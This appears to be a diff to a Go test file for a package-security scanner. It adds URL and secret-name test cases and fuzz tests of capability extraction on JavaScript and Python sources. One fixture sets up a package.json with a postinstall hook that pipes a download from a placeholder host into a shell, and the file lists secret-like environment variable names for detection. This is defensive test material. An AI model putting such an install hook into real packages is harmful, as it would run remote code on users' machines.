@@ -355,6 +355,7 @@ func TestURLTargets(t *testing.T) {
 		{"/relative/path", true, "/relative/path"},
 		{"localhost:3000", true, "localhost:3000"},
 		{"https://", true, "dynamic"},
+		{"", true, ""},
 		{"https://api.example.com/", false, "api.example.com"},
 		{"https://api.example.com", false, "api.example.com"},
 		{"https://api.", false, "dynamic"},
@@ -382,7 +383,8 @@ func TestSecretEnvName(t *testing.T) {
 		"MY_PASSWD", "GOOGLE_APPLICATION_CREDENTIALS", "SSH_PRIVATE_KEY", "BASIC_AUTH", "apiKey", "slackBotToken", "NPM_AUTHTOKEN",
 		"CLIENT_SECRET", "JIRA_APITOKEN", "GITLAB_PAT", "SESSION_COOKIE"}
 	no := []string{"PATH", "HOME", "PWD", "NODE_ENV", "PORT", "MAX_TOKENS", "AUTH_URL", "TOKEN_LIMIT", "KEYCLOAK_REALM", "AUTHOR",
-		"DEBUG", "LOG_LEVEL", "OAUTH_REDIRECT", "MONKEY_MODE", "PASSTHROUGH", "API_BASE"}
+		"DEBUG", "LOG_LEVEL", "OAUTH_REDIRECT", "MONKEY_MODE", "PASSTHROUGH", "API_BASE", "AUTH_SERVER", "AUTH_USERNAME",
+		"MASK_SECRETS", "REQUIRE_REQUEST_TOKEN"}
 	for _, n := range yes {
 		if !secretEnvName(n) {
 			t.Errorf("%s: not matched", n)
@@ -454,4 +456,51 @@ func TestClassifyInstallScript(t *testing.T) {
 			t.Errorf("%q: %s %s, want %s %s", tc.cmd, tag, target, tc.tag, tc.target)
 		}
 	}
+}
+
+// capSeeds adds the source files of the golden cases with the given suffix
+// as fuzz seeds.
+func capSeeds(f *testing.F, suffix string) {
+	paths, _ := filepath.Glob(filepath.Join(capGoldenDir, "*.txtar"))
+	for _, p := range paths {
+		a, err := txtar.ParseFile(p)
+		if err != nil {
+			f.Fatal(err)
+		}
+		for _, file := range a.Files {
+			if strings.HasSuffix(file.Name, suffix) {
+				f.Add(file.Data)
+			}
+		}
+	}
+}
+
+// fuzzCapabilities checks, on hostile input, every invariant the decision
+// side relies on, and that no file's inventory is lost to an internal error.
+func fuzzCapabilities(t *testing.T, name string, src []byte) {
+	fsys := fstest.MapFS{
+		"package.json": {Data: []byte(`{"name":"fuzz","version":"1.0.0","main":"index.js","scripts":{"postinstall":"curl https://h.example/x | sh"}}`)},
+		name:           {Data: src},
+	}
+	members, err := ClassifyFS(fsys)
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := Extract(context.Background(), rundir.PackageRef{Registry: "npm", Name: "fuzz"}, fsys, members,
+		Options{WallBudget: 5 * time.Second, MaxVisited: 200_000})
+	if s.Outcome == OutcomeExtractionBudgetExceeded && len(s.Capabilities) > 0 {
+		t.Fatal("inventory after the budget")
+	}
+	checkCapabilitySpans(t, fsys, s)
+}
+
+func FuzzCapabilitiesJS(f *testing.F) {
+	capSeeds(f, ".js")
+	capSeeds(f, ".ts")
+	f.Fuzz(func(t *testing.T, src []byte) { fuzzCapabilities(t, "index.js", src) })
+}
+
+func FuzzCapabilitiesPython(f *testing.F) {
+	capSeeds(f, ".py")
+	f.Fuzz(func(t *testing.T, src []byte) { fuzzCapabilities(t, "server.py", src) })
 }
